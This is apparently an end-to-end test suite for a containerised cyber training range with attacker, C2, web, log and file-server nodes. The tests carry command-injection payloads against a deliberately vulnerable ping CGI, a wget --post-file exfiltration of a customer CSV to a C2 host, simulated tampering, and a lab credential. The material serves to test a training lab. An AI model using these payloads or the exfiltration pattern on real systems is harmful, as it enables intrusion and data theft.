import { AppConfig, loadConfig } from '@app/config';
import { APP_LABEL_VALUE, DockerEngine, labelKeys, RangeImageBuilder, type ContainerSpec } from '@app/docker';
import { SubnetPool } from '@app/ranges';
import { httpProbeArgv, judgeHttp } from '@app/scoring';
import Docker from 'dockerode';
import { removeLabelledObjects } from './support/docker-cleanup.js';

/** Polls until fn() is true or the deadline passes (the caller asserts the outcome, not the time). */
async function waitFor(fn: () => Promise<boolean>, timeoutMs: number): Promise<boolean> {
  const deadline = Date.now() + timeoutMs;
  while (Date.now() < deadline) {
    if (await fn()) return true;
    await new Promise((r) => setTimeout(r, 250));
  }
  return false;
}

describe('Range images on the real engine: injectable web CGI, log server, C2', () => {
  let config: AppConfig;
  let engine: DockerEngine;
  const images: Record<string, string> = {};
  const ids: Record<string, string> = {};
  let network: string;
  const keys = () => labelKeys(config.DOCKER_LABEL_NAMESPACE);
  const labels = (node: string) => ({
    [keys().app]: APP_LABEL_VALUE,
    [keys().instance]: config.INSTANCE_NAME,
    [keys().kind]: 'e2e-range-images',
    [keys().node]: node,
  });
  const exec = (node: string, argv: string[], user?: string) => engine.exec(ids[node]!, argv, { timeoutMs: 30000, user });
  let subnet: string;

  // Hardened like a provisioned range node: read-only root, tmpfs /tmp and /run, every capability dropped but a few.
  const node = (name: string, image: string, capAdd: string[], env: Record<string, string> = {}): ContainerSpec => ({
    name: `${config.INSTANCE_NAME}-img-${name}`,
    hostname: name,
    image: images[image]!,
    env,
    labels: labels(name),
    networks: [{ network, aliases: [name] }],
    memoryBytes: 64 * 1024 * 1024,
    nanoCpus: 500_000_000,
    pidsLimit: 64,
    capAdd,
    readOnlyRootfs: true,
    tmpfs: { '/tmp': 'rw,size=16m', '/run': 'rw,size=16m' },
  });

  beforeAll(async () => {
    config = loadConfig();
    engine = DockerEngine.fromConfig(config);
    await engine.connectOrFail();
    const builder = new RangeImageBuilder(engine, config);
    const names = ['web', 'logserver', 'attacker', 'workstation', 'c2', 'fileserver', 'router'];
    const result = await builder.ensureAll(names);
    for (const image of [...result.built, ...result.present]) images[image.name] = image.reference;

    network = `${config.INSTANCE_NAME}-img-net`;
    await engine.createNetwork({
      name: network,
      bridgeName: `cy${config.INSTANCE_NAME.slice(-8)}i`.slice(0, 15),
      // The production pool arithmetic, clear of every network the shared engine has now.
      subnet: (subnet = new SubnetPool('10.254.128.0/17', 28).pickFree(await engine.engineSubnets(), 1)[0]!),
      labels: labels('network'),
    });
    const specs = [
      node('logserver', 'logserver', ['NET_BIND_SERVICE']),
      node('web', 'web', ['NET_BIND_SERVICE', 'NET_RAW', 'SETUID', 'SETGID'], { LOGSERVER: 'logserver:514', CUSTOMER_FILE: 'kokyaku.csv' }),
      node('c2', 'c2', [], { C2_PORT: '28443' }),
      node('attacker', 'attacker', ['NET_RAW']),
      node('soc', 'workstation', [], { LOGSERVER: 'logserver:514' }),
      node('fileserver', 'fileserver', ['NET_BIND_SERVICE'], { LOGSERVER: 'logserver:514', ADMIN_USER: 'maint', ADMIN_PASSWORD: 'leaked-pw' }),
    ];
    for (const spec of specs) {
      ids[spec.hostname] = await engine.createContainer(spec);
      await engine.startContainer(ids[spec.hostname]!);
    }
    const ready = await waitFor(async () => {
      const web = await exec('soc', ['wget', '-q', '-O', '/dev/null', 'http://web/']);
      const logs = await exec('logserver', ['sh', '-c', "netstat -ltn | grep -q ':514 '"]);
      const c2 = await exec('c2', ['sh', '-c', "netstat -ltn | grep -q ':28443 '"]);
      const share = await exec('fileserver', ['sh', '-c', "netstat -ltn | grep -q ':80 '"]);
      return web.exitCode === 0 && logs.exitCode === 0 && c2.exitCode === 0 && share.exitCode === 0;
    }, 30000);
    if (!ready) throw new Error('range images did not become ready');
  });

  afterAll(async () => {
    await removeLabelledObjects(config);
    engine.close();
  });

  it('built every range image, tagged by content hash', () => {
    for (const name of ['web', 'logserver', 'attacker', 'workstation', 'c2', 'fileserver', 'router']) {
      expect(images[name]).toMatch(new RegExp(`^cyder-range/${name}:[0-9a-f]{12}$`));
    }
  });

  it('builds every image but base FROM the base image: its layers come first', async () => {
    const docker = new Docker({ socketPath: config.DOCKER_SOCKET });
    const base = (await new RangeImageBuilder(engine, config).ensure('base')).image.reference;
    const layers = async (reference: string) => ((await docker.getImage(reference).inspect()).RootFS.Layers ?? []) as string[];
    const baseLayers = await layers(base);
    expect(baseLayers.length).toBeGreaterThan(0);
    for (const name of ['web', 'logserver', 'attacker', 'workstation', 'c2', 'fileserver', 'router']) {
      const own = await layers(images[name]!);
      expect({ name, base: own.slice(0, baseLayers.length) }).toEqual({ name, base: baseLayers });
      expect(own.length).toBeGreaterThan(baseLayers.length);
    }
  });

  it('serves the corporate site from a read-only root', async () => {
    const page = await exec('soc', ['wget', '-q', '-O', '-', 'http://web/']);
    expect(page.exitCode).toBe(0);
    expect(page.stdout).toContain('corporate-site-v1');
    const write = await exec('web', ['sh', '-c', 'echo x > /srv/www/index.html']);
    expect(write.exitCode).not.toBe(0);
  });

  it('runs a command injected through the CGI query parameter, from another container', async () => {
    // The server evaluates $((6*7)); the page echoing the request back could not show 42 otherwise.
    const raw = await exec('soc', ['wget', '-q', '-O', '-', 'http://web/cgi-bin/ping?host=127.0.0.1%3Becho%20INJECTED-%24((6*7))']);
    expect(raw.exitCode).toBe(0);
    expect(raw.stdout).toMatch(/^INJECTED-42$/m);

    const viaTool = await exec('attacker', ['exploit', 'http://web/cgi-bin/ping', 'host', 'id; hostname']);
    expect(viaTool.stdout).toContain('uid=0(root)');
    expect(viaTool.stdout).toMatch(/^web$/m);
    expect((await exec('attacker', ['probe-injection', 'http://web/cgi-bin/ping', 'host'])).exitCode).toBe(0);
  });

  it('scoring probes leave no trace in the evidence: the web and file server logs (and the log server) keep the attacker\'s requests, never the probes\'', async () => {
    const webLog = () => exec('web', ['cat', '/run/log/messages']).then((r) => r.stdout);
    const shareLog = () => exec('fileserver', ['cat', '/run/log/messages']).then((r) => r.stdout);
    // The injection probe (course A and C) and the console credential probe (course B), as the templates run them.
    expect((await exec('attacker', ['probe-injection', 'http://web/cgi-bin/ping', 'host'])).exitCode).toBe(0);
    const leaked = await exec('soc', ['wget', '-q', '-O', '/dev/null', 'http://maint:leaked-pw@fileserver/cgi-bin/admin/cyder-probe-credentials']);
    expect(leaked.exitCode).toBe(0);
    const refused = await exec('soc', ['wget', '-q', '-O', '/dev/null', 'http://maint:other@fileserver/cgi-bin/admin/cyder-probe-credentials']);
    expect(refused.exitCode).toBe(1);
    // The attacker's own requests, after the probes: once they are logged, the probes' lines would be too.
    const marker = `attack-${Date.now()}`;
    await exec('attacker', ['exploit', 'http://web/cgi-bin/ping', 'host', `echo ${marker}`]);
    await exec('attacker', ['wget', '-q', '-O', '-', '--post-data', `echo ${marker}`, 'http://maint:leaked-pw@fileserver/cgi-bin/admin']);
    expect(await waitFor(async () => (await webLog()).includes(marker) && (await shareLog()).includes(marker), 10000)).toBe(true);
    const logs = { web: await webLog(), fileserver: await shareLog() };
    expect(logs.web).toMatch(new RegExp(`webapp: ping request from [^ ]+: host=127.0.0.1;echo ${marker}`));
    expect(logs.web).toMatch(/httpd: [^ ]+: url:\/cgi-bin\/ping$/m);
    expect(logs.fileserver).toMatch(new RegExp(`admin-console: user=maint from=[^ ]+ command: echo ${marker}`));
    expect({ web: logs.web.includes('cyder-probe'), fileserver: logs.fileserver.includes('cyder-probe') }).toEqual({ web: false, fileserver: false });
    expect(logs.fileserver).not.toMatch(/command: true|response:401/);
    const shipped = async () => (await exec('logserver', ['cat', '/var/log/remote/all.log'])).stdout;
    expect(await waitFor(async () => (await shipped()).includes(`echo ${marker}`), 15000)).toBe(true);
    expect((await shipped()).includes('cyder-probe')).toBe(false);
  });

  it('is no longer injectable once the defenders patch /run/app/ping.sh (the attacker probe fails)', async () => {
    const patch = await exec('web', ['sh', '-c', "sed -i 's/^eval .*/case \"$host\" in *[!0-9.]*) echo rejected ;; *) ping -c 1 -W 1 \"$host\" ;; esac/' /run/app/ping.sh"]);
    expect(patch.exitCode).toBe(0);
    expect((await exec('attacker', ['probe-injection', 'http://web/cgi-bin/ping', 'host'])).exitCode).toBe(1);
    const page = await exec('soc', ['wget', '-q', '-O', '-', 'http://web/cgi-bin/ping?host=127.0.0.1']);
    expect(page.stdout).toContain('Network check: 127.0.0.1');
  });

  it('the log server receives a line sent by another node, and the web server\'s requests', async () => {
    const marker = `e2e-marker-${Date.now()}`;
    const sent = await exec('soc', ['sh', '-c', `echo "soc test: ${marker}" | nc -w 1 logserver 514`]);
    expect(sent.exitCode).toBe(0);
    const logged = async (pattern: string) =>
      (await exec('logserver', ['grep', '-c', pattern, '/var/log/remote/all.log'])).exitCode === 0;
    expect(await waitFor(() => logged(marker), 15000)).toBe(true);
    // Shipped from web's syslog: the injection attempts are there for the defenders to find.
    expect(await waitFor(() => logged('webapp: ping request from .*host=127.0.0.1;id; hostname'), 15000)).toBe(true);
  });

  it('the C2 records an exfiltrated file and a beacon', async () => {
    const payload = await exec('web', ['sh', '-c', 'wget -q -O - --post-file=/run/data/kokyaku.csv http://c2:28443/upload/kokyaku.csv; wget -q -O - "http://c2:28443/beacon?id=abc"']);
    expect(payload.stdout).toContain('ok');
    const events = await exec('c2', ['sh', '-c', 'cat /run/c2/events.log /run/c2/beacons.log; cat /run/c2/loot/*']);
    expect(events.stdout).toMatch(/upload \/upload\/kokyaku\.csv bytes=\d+/);
    expect(events.stdout).toContain('beacon /beacon?id=abc');
    expect(events.stdout).toContain('customer_id,name,email');
  });

  it('a restart brings the web node back to T0: defacement, cron entry, dropped file and patch are gone', async () => {
    const tamper = await exec('web', ['sh', '-c', 'echo defaced > /run/www/index.html && echo "* * * * * true" | crontab - && mkdir -p /tmp/.cache && touch /tmp/.cache/implant']);
    expect(tamper.exitCode).toBe(0);
    await engine.restartContainer(ids.web!, 1);
    expect(await waitFor(async () => (await exec('soc', ['wget', '-q', '-O', '/dev/null', 'http://web/'])).exitCode === 0, 20000)).toBe(true);
    expect((await exec('soc', ['wget', '-q', '-O', '-', 'http://web/'])).stdout).toContain('corporate-site-v1');
    expect((await exec('web', ['crontab', '-l'])).exitCode).not.toBe(0);
    expect((await exec('web', ['test', '-e', '/tmp/.cache/implant'])).exitCode).toBe(1);
    // The CGI patched in an earlier test is vulnerable again: T0 of the scenario.
    expect((await exec('attacker', ['probe-injection', 'http://web/cgi-bin/ping', 'host'])).exitCode).toBe(0);
  });

  it('ends a failed HTTP request with a clean exit and its reason (never 139), and the probe judge says it', async () => {
    // A server that accepts and never answers, and an address of the segment where nobody is.
    await exec('c2', ['sh', '-c', 'nc -l -p 8089 -e sleep 30 >/dev/null 2>&1 &']);
    const [network, bits] = subnet.split('/');
    const octets = network!.split('.').map(Number);
    const nobody = [...octets.slice(0, 3), octets[3]! + 2 ** (32 - Number(bits)) - 2].join('.');
    // (ARP gives up on an absent address after about 3 s; the resolver on an unknown name after 10 s.)
    const cases: Array<[url: string, reason: string, timeoutSeconds: number]> = [
      ['http://web:81/', 'connection refused', 3],
      [`http://${nobody}/`, 'host unreachable', 8],
      ['http://c2:8089/', 'no answer within 3 s', 3],
      ['http://no-such-node/', 'unknown host name', 15],
    ];
    for (const [url, reason, timeoutSeconds] of cases) {
      const probe = { from: 'soc', url, timeoutSeconds };
      const result = await exec('soc', httpProbeArgv(probe));
      expect({ url, exitCode: result.exitCode, said: result.stderr.trim().split('\n').pop() }).toEqual({ url, exitCode: 4, said: `http-request: ${url}: ${reason}` });
      expect(judgeHttp(probe, result)).toEqual({ holds: false, detail: `no HTTP answer: ${url}: ${reason}` });
    }
    const missing = { from: 'soc', url: 'http://web/no-such-page', timeoutSeconds: 3 };
    const notFound = await exec('soc', httpProbeArgv(missing));
    expect(notFound.exitCode).toBe(8);
    expect(judgeHttp(missing, notFound)).toEqual({ holds: false, detail: 'HTTP 404' });
    const site = { from: 'soc', url: 'http://web/', timeoutSeconds: 3, bodyMatches: 'corporate-site-v1' };
    expect(judgeHttp(site, await exec('soc', httpProbeArgv(site)))).toEqual({ holds: true, detail: 'HTTP 200' });
    // A trainee's interactive shell: wget -T goes through http-request instead of crashing.
    const typed = await exec('soc', ['sh', '-i', '-c', 'wget -T 2 -q -O - http://web:81/']);
    expect({ exitCode: typed.exitCode, said: typed.stderr.trim().split('\n').pop() }).toEqual({ exitCode: 4, said: 'http-request: http://web:81/: connection refused' });
  });

  it('every image has the unprivileged account trainee, whose home works on a read-only root', async () => {
    for (const name of ['web', 'logserver', 'c2', 'attacker', 'soc']) {
      const login = await exec(name, ['sh', '-l', '-c', 'id -un; cd && touch notes.txt && pwd; touch /srv/x 2>/dev/null || echo no-write'], 'trainee');
      expect({ name, out: login.stdout.trim().split('\n') }).toEqual({ name, out: ['trainee', '/tmp/trainee', 'no-write'] });
    }
  });

  it('gives defenders pgrep/pkill (busybox-static has neither) that never match their own shell', async () => {
    await exec('web', ['sh', '-c', 'sleep 300 >/dev/null 2>&1 &']);
    const found = await exec('web', ['pgrep', '-f', 'sleep 300']);
    expect(found.exitCode).toBe(0);
    expect(found.stdout.trim()).toMatch(/^\d+$/);
    const killed = await exec('web', ['sh', '-c', 'pkill -f "sleep 300" && sleep 0.2 && ! pgrep -f "sleep 300"']);
    expect(killed.exitCode).toBe(0);
  });

  it('every node\'s PID 1 exits cleanly on SIGTERM (no kill after the stop timeout)', async () => {
    for (const name of ['web', 'logserver', 'c2', 'attacker', 'soc']) {
      await engine.stopContainer(ids[name]!, 20);
      const state = (await engine.inspectContainer(ids[name]!))!;
      expect({ name, status: state.state, exitCode: state.exitCode, oomKilled: state.oomKilled }).toEqual({ name, status: 'exited', exitCode: 0, oomKilled: false });
    }
  });
});
